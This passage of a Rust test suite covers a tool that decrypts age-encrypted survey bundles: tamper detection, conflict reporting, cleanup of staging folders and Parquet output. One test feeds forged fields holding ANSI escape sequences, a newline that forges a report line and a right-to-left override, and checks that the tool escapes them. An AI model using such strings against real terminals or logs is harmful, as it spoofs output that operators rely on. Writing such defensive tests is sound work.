    let (text, dir) = decrypt_photos(&[("photo.yim.age", with_photo(1, '1', &photo))], 0);
    assert!(text.contains("wrote out/media/ (1 photo)"), "{text}");
    let written = dir
        .path()
        .join("out/media/019ab0b2-8c60-7a11-8f00-000000000001/face.jpg");
    assert_eq!(std::fs::read(written).unwrap(), photo);
    // The photos waited in the staging folder; none of that is left.
    let names: Vec<_> = std::fs::read_dir(dir.path().join("out"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(names.is_empty(), "{names:?}");
}

/// How many photos opening `bundle` as a stream hands over before it ends.
fn photos_handed(bundle: &[u8]) -> usize {
    let key = std::fs::read_to_string(format!("{FIXTURES}/office-key.txt")).unwrap();
    let office: yim_bundle::Identities = yim_bundle::Identity::parse_file(&key)
        .unwrap()
        .into_iter()
        .collect();
    let mut photos = 0;
    let _ = yim_bundle::open_reader(bundle, &office, |part| {
        photos += usize::from(matches!(part, yim_bundle::Part::Attachment(_)));
    });
    photos
}

#[test]
fn decrypt_drops_the_photos_of_a_bundle_changed_after_them() {
    // A photo of this size ends in age's first 64 KiB chunk and the
    // manifest lies in the last one: changing a byte of the last chunk
    // fails the bundle only after its photo was decrypted and handed over.
    // Nothing of it (nor of the good bundle) may be written or left behind.
    let photo = vec![7u8; 59_500];
    let good = with_photo(1, '1', &photo);
    let mut changed = with_photo(2, '2', &photo);
    let at = changed.len() - 20;
    changed[at] ^= 1;
    assert_eq!(photos_handed(&changed), 1);
    let (text, dir) = decrypt_photos(&[("good.yim.age", good), ("changed.yim.age", changed)], 2);
    expect![[r#"
        stderr: changed.yim.age: this bundle was changed or cut short after it was made (part of its content fails authentication)
        stderr: yim: nothing was written: 1 of 2 bundle files could not be opened
    "#]]
    .assert_eq(&text);
    let mut left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["changed.yim.age", "good.yim.age", "office-key.txt"]);
}

/// The fixture form under another id, with a comment that gives it a hash
/// of its own (a bundle keeps one copy of a form text).
fn named(id: &str) -> yim_bundle::BundleForm {
    let mut f = v1();
    f.id = id.into();
    f.yaml.push_str(&format!("# {id}\n"));
    f
}

#[test]
fn defect_8_control_characters_from_a_bundle_are_escaped() {
    // A device id that would start a forged report line and clear the
    // screen, and a form version that would turn the text red.
    let device = "3f2a\nopened 0 bundles\u{1b}[2J";
    let mut form = yim_bundle::BundleForm {
        id: "child-visit".into(),
        version: "1\u{1b}[31m".into(),
        yaml: "form: {id: old-form\n".into(),
    };
    form.id = "child\u{202e}visit".into();
    let bytes = fixtures::forged(
        device,
        1,
        &[&form],
        &[fixtures::response(
            '1',
            &form,
            device,
            "2026-11-25T03:00:00.000Z",
            json!({"a": 1}),
        )],
    );
    let (code, text) = run(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "escape.yim.age",
        ],
        put("escape.yim.age", bytes),
    );
    assert_eq!(code, 1, "{text}");
    let report: String = text
        .lines()
        .take_while(|l| !l.starts_with("=="))
        .map(|l| format!("{l}\n"))
        .collect();
    expect![[r#"
        opened 1 bundle from 1 device: 1 response of 1 form
        device 3f2a\nopened 0 bundles\u{1b}[2J: have 1
        form child\u{202e}visit version 1\u{1b}[31m: its resolved form in the bundle cannot be read (expected `,` or `}` to continue or close the `{` mapping); its columns follow the answers
        wrote out/child_visit.csv (1 response)
    "#]]
    .assert_eq(&report);
}

#[test]
fn defect_9_odd_responses_are_reported_and_losing_copies_written() {
    let form = v1();
    let mut foreign = fixtures::response(
        '1',
        &form,
        "9b1c",
        "2026-11-25T03:00:00.000Z",
        json!({"age": 4}),
    );
    foreign.status = "draft".into();
    let first = fixtures::response(
        '2',
        &form,
        "3f2a",
        "2026-11-25T03:00:00.000Z",
        json!({"age": 6}),
    );
    let mut second = first.clone();
    second.updated = "2026-11-25T04:00:00.000Z".into();
    second.answers = json!({"age": 7});
    let one = fixtures::forged("3f2a", 1, &[&form], &[foreign, first]);
    let two = fixtures::forged("3f2a", 2, &[&form], &[second]);
    let (code, text) = run(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "one.yim.age",
            "two.yim.age",
        ],
        |dir| {
            std::fs::write(dir.join("one.yim.age"), one).unwrap();
            std::fs::write(dir.join("two.yim.age"), two).unwrap();
        },
    );
    assert_eq!(code, 1, "{text}");
    let report: String = text
        .lines()
        .take_while(|l| !l.starts_with("=="))
        .map(|l| format!("{l}\n"))
        .collect();
    let conflicts = text.split("== out/conflicts.json\n").nth(1).unwrap_or("");
    expect![[r#"
        opened 2 bundles from 1 device: 2 responses of 1 form
        device 3f2a: have 1-2
        response 019ab0b2-8c60-7a11-8f00-000000000001 was filled on device 9b1c, but came in device 3f2a's export 1
        response 019ab0b2-8c60-7a11-8f00-000000000001 has status `draft`, but only finalized responses are exported (from device 3f2a export 1)
        response 019ab0b2-8c60-7a11-8f00-000000000002: 2 different copies; kept the one updated 2026-11-25T04:00:00.000Z (from device 3f2a export 2), left out the one updated 2026-11-25T03:00:00.000Z (from device 3f2a export 1)
        wrote out/child-visit.csv (2 responses)
        wrote out/child-visit-household.csv (0 rows)
        wrote out/child-visit-visits.csv (0 rows)
        wrote out/conflicts.json (1 left-out copy)
        -- conflicts.json
        [
          {
            "kept": {
              "found_in": [
                {
                  "bundle_id": "019ab0c0-0000-7000-8000-000000000002",
                  "device_id": "3f2a",
                  "sequence": 2
                }
              ],
              "updated": "2026-11-25T04:00:00.000Z"
            },
            "left_out": [
              {
                "found_in": [
                  {
                    "bundle_id": "019ab0c0-0000-7000-8000-000000000001",
                    "device_id": "3f2a",
                    "sequence": 1
                  }
                ],
                "response": {
                  "answers": {
                    "age": 6
                  },
                  "created": "2026-11-20T02:00:00.000Z",
                  "device_id": "3f2a",
                  "form_hash": "8110a2a2b409ad5dbf958d1b8b5163b924053ac6ad22f0ce98b6d814c0df6727",
                  "form_id": "child-visit",
                  "form_version": "1",
                  "id": "019ab0b2-8c60-7a11-8f00-000000000002",
                  "status": "finalized",
                  "updated": "2026-11-25T03:00:00.000Z"
                }
              }
            ],
            "response_id": "019ab0b2-8c60-7a11-8f00-000000000002"
          }
        ]
    "#]]
    .assert_eq(&format!("{report}-- conflicts.json\n{conflicts}"));
}

#[test]
fn defect_10_an_unfinished_earlier_run_is_cleaned_up() {
    // What a run killed during its final write leaves: a staging folder of
    // plaintext CSVs next to the output folder.
    check_prepared(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "77aa-1.yim.age",
            "--passphrase-file",
            "passphrase.txt",
        ],
        |dir| {
            let staging = dir.join(".yim-decrypt-out-Zq3x9A");
            std::fs::create_dir(&staging).unwrap();
            // The leftovers of another output folder are not this run's.
            std::fs::create_dir(dir.join(".yim-decrypt-out-2-Ab12Cd")).unwrap();
            std::fs::write(staging.join("child-visit.csv"), "child_name\nด.ช. ภูผา\n").unwrap();
            std::fs::write(staging.join("child-visit-household.csv"), "member_name\n").unwrap();
        },
        0,
        expect![[r#"
            removed ./.yim-decrypt-out-Zq3x9A, left by an earlier run that was stopped while writing (2 files of decrypted answers)
            opened 1 bundle from 1 device: 1 response of 1 form
            device 77aa: have 1
            wrote out/child-visit.csv (1 response)
            wrote out/child-visit-household.csv (0 rows)
            wrote out/child-visit-visits.csv (0 rows)
            left behind: .yim-decrypt-out-2-Ab12Cd
            == out/child-visit-household.csv
            member_name,PARENT_KEY,KEY
            == out/child-visit-visits.csv
            visit_date,PARENT_KEY,KEY
            == out/child-visit.csv
            child_name,age,province,needs,age_group,KEY,FormVersion,DeviceID,Created,Updated,Status
            ด.ช. ภูผา,11,,,school,019ab0b2-8c60-7a11-8f00-00000000000e,1,77aa,2026-11-20T02:00:00.000Z,2026-11-22T07:00:00.000Z,finalized
        "#]],
    );
}

/// Runs python3 with DuckDB on `script` in `dir`, as an analyst would read
/// the Parquet tables. DuckDB is installed by `scripts/setup.sh`.
fn duckdb(dir: &Path, script: &str) -> String {
    let out = Command::new("python3")
        .args(["-c", script])
        .current_dir(dir)
        .output()
        .expect("python3 runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains("No module named 'duckdb'"),
        "DuckDB for python3 is missing: run scripts/setup.sh (it installs duckdb from PyPI)"
    );
    assert!(
        out.status.success(),
        "python3 with duckdb failed:\n{stderr}"
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn decrypt_to_parquet_is_read_by_duckdb_with_the_csv_rows_and_types() {
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_yim"))
        .args([
            "decrypt",
            "--format",
            "parquet",
            "-i",
            "office-key.txt",
            "3f2a-1.yim.age",
            "3f2a-2.yim.age",
            "3f2a-4.yim.age",
            "9b1c-1.yim.age",
            "-o",
        ])
        .arg(dir.path().join("out"))
        .current_dir(FIXTURES)
        .output()
        .unwrap();
    let report =
        String::from_utf8_lossy(&out.stdout).replace(&dir.path().display().to_string(), "");
    assert_eq!(out.status.code(), Some(1), "{report}");
    expect![[r#"
        wrote /out/child-visit.parquet (4 responses)
        wrote /out/child-visit-household.parquet (2 rows)
        wrote /out/child-visit-visits.parquet (2 rows)
        wrote /out/conflicts.json (1 left-out copy)
    "#]]
    .assert_eq(
        &report
            .lines()
            .filter(|l| l.starts_with("wrote"))
            .map(|l| format!("{l}\n"))
            .collect::<String>(),
    );
    let text = duckdb(
        &dir.path().join("out"),
        r#"
import duckdb
for t in ["child-visit", "child-visit-household", "child-visit-visits"]:
    print(t, duckdb.sql(f"SELECT count(*) FROM '{t}.parquet'").fetchall()[0][0])
print(duckdb.sql("SELECT typeof(age), typeof(Updated), sum(age) FROM 'child-visit.parquet' GROUP BY ALL").fetchall())
print(duckdb.sql("SELECT KEY, needs, phone FROM 'child-visit.parquet' ORDER BY KEY").fetchall())
print(duckdb.sql("SELECT typeof(visit_date), min(visit_date) FROM 'child-visit-visits.parquet' GROUP BY ALL").fetchall())
print(duckdb.sql("""
    SELECT count(*) FROM 'child-visit-visits.parquet' v
    JOIN 'child-visit-household.parquet' h ON v.PARENT_KEY = h.KEY
    JOIN 'child-visit.parquet' r ON h.PARENT_KEY = r.KEY""").fetchall()[0][0])
"#,
    );
    expect![[r#"
        child-visit 4
        child-visit-household 2
        child-visit-visits 2
        [('BIGINT', 'TIMESTAMP WITH TIME ZONE', 24)]
        [('019ab0b2-8c60-7a11-8f00-00000000000a', 'food health', None), ('019ab0b2-8c60-7a11-8f00-00000000000b', '', None), ('019ab0b2-8c60-7a11-8f00-00000000000c', 'school', '0812345678'), ('019ab0b2-8c60-7a11-8f00-00000000000d', 'health', None)]
        [('DATE', datetime.date(2026, 11, 1))]
        2
    "#]]
    .assert_eq(&text);
}

#[test]
fn decrypt_leaves_a_running_decrypts_staging_folder_alone() {
    // Another run for the same output is still writing: it holds the lock
    // on its staging folder's lock file, as this test does here. A killed
    // run's folder next to it has a lock file that nobody holds.
    let mut held = None;
    let (code, text) = run(
        &[
            "decrypt",
            "-i",
            "office-key.txt",
            "-o",
            "out",
            "3f2a-1.yim.age",
        ],
        |dir| {
            std::fs::create_dir(dir.join(".yim-decrypt-out-Live01")).unwrap();
            std::fs::write(dir.join(".yim-decrypt-out-Live01/child-visit.csv"), "x\n").unwrap();
            let lock = std::fs::File::create(dir.join(".yim-decrypt-out-Live01.lock")).unwrap();
            lock.lock().unwrap();
            held = Some(lock);
            std::fs::create_dir(dir.join(".yim-decrypt-out-Dead01")).unwrap();
            std::fs::write(dir.join(".yim-decrypt-out-Dead01/child-visit.csv"), "x\n").unwrap();
            std::fs::write(dir.join(".yim-decrypt-out-Dead01.lock"), "").unwrap();
        },
    );
    drop(held);
    assert_eq!(code, 0, "{text}");
    expect![[r#"
        left ./.yim-decrypt-out-Live01 alone: a yim decrypt that is still running writes there
        removed ./.yim-decrypt-out-Dead01, left by an earlier run that was stopped while writing (1 file of decrypted answers)
        opened 1 bundle from 1 device: 2 responses of 1 form
        device 3f2a: have 1
        wrote out/child-visit.csv (2 responses)
        wrote out/child-visit-household.csv (2 rows)
        wrote out/child-visit-visits.csv (2 rows)
        left behind: .yim-decrypt-out-Live01
        left behind: .yim-decrypt-out-Live01.lock
    "#]]
    .assert_eq(
        &text
            .lines()
            .take_while(|l| !l.starts_with("=="))
            .map(|l| format!("{l}\n"))
            .collect::<String>(),
    );
}

// ---------------------------------------------------------------------------
// The fixtures.

static FIXTURES_MADE: Once = Once::new();

/// Makes the fixture bundles again when `UPDATE_BUNDLES` is set; otherwise
/// the committed ones are used as they are.
fn make_fixtures() {
    if std::env::var_os("UPDATE_BUNDLES").is_none() {
        return;
    }
    FIXTURES_MADE.call_once(fixtures::write_all);
}

mod fixtures {
    use serde_json::{json, Value};
    use yim_bundle::{BundleForm, BundleHeader, Passphrase, Recipients, Response};

    use super::FIXTURES;

    pub(super) fn read(name: &str) -> String {
        std::fs::read_to_string(format!("{FIXTURES}/{name}")).unwrap()
    }

    pub(super) fn key(name: &str) -> Recipients {
        super::sealing::recipients(&format!("{FIXTURES}/{name}"))
    }

    fn passphrase() -> Recipients {
        let text = read("passphrase.txt");
        Recipients::Passphrase(Passphrase::new(text.trim_end().to_string()).with_work_factor(10))
    }

    /// A source form resolved the way the app resolves it before export.
    pub(super) fn form(file: &str) -> BundleForm {
        super::sealing::resolved(FIXTURES, file)
    }

    pub(super) fn response(
        n: char,
        form: &BundleForm,
        device: &str,
        updated: &str,
        answers: Value,
    ) -> Response {
        Response {
            id: format!("019ab0b2-8c60-7a11-8f00-00000000000{n}"),
            form_id: form.id.clone(),
            form_version: form.version.clone(),
            form_hash: form.hash(),
            created: "2026-11-20T02:00:00.000Z".into(),
            updated: updated.into(),
            device_id: device.into(),
            status: "finalized".into(),
            answers,
            case: None,
        }
    }

    pub(super) fn bundle(
        name: &str,
        device: &str,
        sequence: u64,
        forms: &[&BundleForm],
        responses: &[Response],
        to: fn() -> Recipients,
    ) {
        let header = BundleHeader {
            id: format!("019ab0c0-0000-7000-8000-{:0>8}{sequence:04}", device),
            created: format!("2026-11-2{sequence}T10:00:00.000Z"),
            device_id: device.into(),
            sequence,
        };
        let bytes = super::sealing::sealed_bundle(&header, forms, responses, &to());
        std::fs::write(format!("{FIXTURES}/{name}"), bytes).unwrap();
    }

    /// A bundle from `device` to the office key, as bytes: what anyone who
    /// knows the office's public key can make, whatever it holds.
    pub(super) fn forged(
        device: &str,
        sequence: u64,
        forms: &[&BundleForm],
        responses: &[Response],
    ) -> Vec<u8> {
        let header = BundleHeader {
            id: format!("019ab0c0-0000-7000-8000-{sequence:012}"),
            created: "2026-11-25T10:00:00.000Z".into(),
            device_id: device.into(),
            sequence,
        };
        super::sealing::sealed_bundle(&header, forms, responses, &key("office-key.txt"))
    }

    pub(super) fn write_all() {
        let v1 = form("child-visit-v1.yaml");
        let v2 = form("child-visit-v2.yaml");
        let office = || key("office-key.txt");
        let a = response(
            'a',
            &v1,
            "3f2a",
            "2026-11-20T03:00:00.000Z",
            json!({
                "child_name": "ด.ญ. มะลิ ใจดี", "age": 4, "province": "phayao", "needs": ["food", "health"],
                "age_group": "young",
                "household": [
                    {"member_name": "นางสมศรี ใจดี", "visits": [{"visit_date": "2026-11-01"}, {"visit_date": "2026-11-15"}]},
                    {"member_name": "นายสมชาย ใจดี"}
                ]
            }),
        );
        let b = response(
            'b',
            &v1,
            "3f2a",
            "2026-11-20T04:00:00.000Z",
            json!({"child_name": "ด.ช. ต้นกล้า \"ตัวเล็ก\", น้องชาย", "age": 9, "province": "loei", "needs": [], "age_group": "school"}),
        );
        let c = response(
            'c',
            &v2,
            "3f2a",
            "2026-11-21T05:00:00.000Z",
            json!({"child_name": "ด.ญ. ใบเตย", "age": 7, "phone": "0812345678", "province": "phayao", "needs": ["school"], "age_group": "school"}),
        );
        let mut a_changed = a.clone();
        a_changed.updated = "2026-11-23T08:30:00+07:00".into();
        a_changed.answers["age"] = 5.into();
        let d = response(
            'd',
            &v2,
            "9b1c",
            "2026-11-22T06:00:00.000Z",
            json!({"child_name": "น้องฟ้า\nบรรทัดที่สอง", "age": 3, "province": "loei", "needs": ["health"], "old_field": "kept", "age_group": "young"}),
        );
        let e = response(
            'e',
            &v1,
            "77aa",
            "2026-11-22T07:00:00.000Z",
            json!({"child_name": "ด.ช. ภูผา", "age": 11, "age_group": "school"}),
        );

        bundle(
            "3f2a-1.yim.age",
            "3f2a",
            1,
            &[&v1],
            &[a.clone(), b.clone()],
            office,
        );
        bundle(
            "3f2a-2.yim.age",
            "3f2a",
            2,
            &[&v1, &v2],
            &[b.clone(), c],
            office,
        );
        bundle("3f2a-4.yim.age", "3f2a", 4, &[&v1], &[a_changed], office);
        bundle("9b1c-1.yim.age", "9b1c", 1, &[&v2], &[d], office);
        bundle("77aa-1.yim.age", "77aa", 1, &[&v1], &[e], passphrase);
        bundle(
            "stranger.yim.age",
            "5e5e",
            1,
            &[&v1],
            std::slice::from_ref(&a),
            || key("stranger-key.txt"),
        );

        // A form text that no version of yim reads as a form, and answers
        // with a list no form question describes.
        let unreadable = BundleForm {
            id: "old-form".into(),
            version: "0.9".into(),
            yaml: "form: {id: old-form\n".into(),
        };
        let f = response(
            'f',
            &unreadable,
            "5e5e",
            "2026-11-22T08:00:00.000Z",
            json!({"name": "ลำดวน", "pets": [{"kind": "แมว"}, {"kind": "หมา", "age": 2}]}),
        );
        bundle("old-form.yim.age", "5e5e", 1, &[&unreadable], &[f], office);

        let good = std::fs::read(format!("{FIXTURES}/3f2a-1.yim.age")).unwrap();
        let mut tampered = good.clone();
        let middle = good.len() / 2;
        tampered[middle] ^= 0x20;
        std::fs::write(format!("{FIXTURES}/tampered.yim.age"), tampered).unwrap();
        std::fs::write(format!("{FIXTURES}/truncated.yim.age"), &good[..100]).unwrap();
    }
}
